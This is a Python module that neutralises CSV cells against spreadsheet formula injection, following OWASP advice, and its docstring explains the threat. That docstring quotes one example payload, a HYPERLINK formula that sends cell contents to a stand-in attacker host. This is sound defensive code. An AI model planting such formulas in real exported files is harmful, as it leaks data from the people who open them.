"""Cells of the CSV files the app serves, made safe to open in a spreadsheet program.

A cell starting with = + - @ (or a tab or carriage return, which some programs skip before
reading a formula) is run as a formula by Excel, LibreOffice and Google Sheets: text a
publisher typed (a field name such as ``=HYPERLINK("http://evil/?"&A2)``) would then run on
the machine of whoever opens the download. As OWASP recommends, such a cell is prefixed
with a single quote, which spreadsheets show as text and which a reader of the CSV can
strip. Plain numbers (``-12.5``) are left alone: they are not formulas and a quote would
turn them into text.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cell_neutralise(value):
    """The value to write in a CSV cell: text that a spreadsheet would run is quoted."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_row_neutralise(row) -> list:
    return [csv_cell_neutralise(cell) for cell in row]
